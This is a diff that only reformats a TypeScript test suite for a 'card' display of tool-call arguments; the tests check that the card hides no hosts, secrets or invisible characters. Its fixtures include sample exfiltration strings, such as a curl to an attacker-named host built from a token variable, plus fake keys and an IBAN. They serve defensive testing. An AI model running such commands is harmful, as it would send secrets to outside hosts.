@@ -30,9 +30,7 @@ async function cardOf(given: unknown, language?: string): Promise<string> {
 const key = `sk-${"a1b2".repeat(6)}`;
 
 it("a card hides nothing of a host with an invisible character", async () => {
-  expect(await cardOf({ x: `open ${key}.\u200bcom` })).toContain(
-    `${key}.\\u200bcom`,
-  );
+  expect(await cardOf({ x: `open ${key}.\u200bcom` })).toContain(`${key}.\\u200bcom`);
 });
 
 describe("a card hides nothing of", () => {
@@ -57,10 +55,7 @@ describe("a card hides nothing of", () => {
     ["an option's value", { input: `connect --host ${key} now` }],
     ["a variable", { x: `token=attackerdom; curl https://$token.com` }],
     ["a pipe", { x: `echo token=attackerdom | xargs open` }],
-    [
-      "a joined string",
-      { x: `password = "attackerdom"; url = "x" + password` },
-    ],
+    ["a joined string", { x: `password = "attackerdom"; url = "x" + password` }],
     ["an encoded address", { x: "https://a.example/?token=evil.example%2Fx" }],
     ["an object", { credentials: { iban: "DE89370400440532013000" } }],
     ["a list", { credentials: ["ann", "ben"] }],
@@ -106,9 +101,7 @@ const label = fc
 const host = fc
   .tuple(label, label, fc.constantFrom("com", "example", "io", "internal"))
   .map((labels) => labels.join("."));
-const path = fc
-  .array(label, { minLength: 1, maxLength: 3 })
-  .map((parts) => `/${parts.join("/")}`);
+const path = fc.array(label, { minLength: 1, maxLength: 3 }).map((parts) => `/${parts.join("/")}`);
 const secretWord = fc.constantFrom(
   "token",
   "password",
@@ -185,9 +178,7 @@ it("two calls with different destinations never have the same card, in any langu
             : character;
         const other = one.slice(0, place) + changed + one.slice(place + 1);
         fc.pre(other !== one && Number(other) !== Number(one));
-        expect(await cardOf(shape(other), language)).not.toBe(
-          await cardOf(shape(one), language),
-        );
+        expect(await cardOf(shape(other), language)).not.toBe(await cardOf(shape(one), language));
       },
     ),
     { numRuns: 400 },
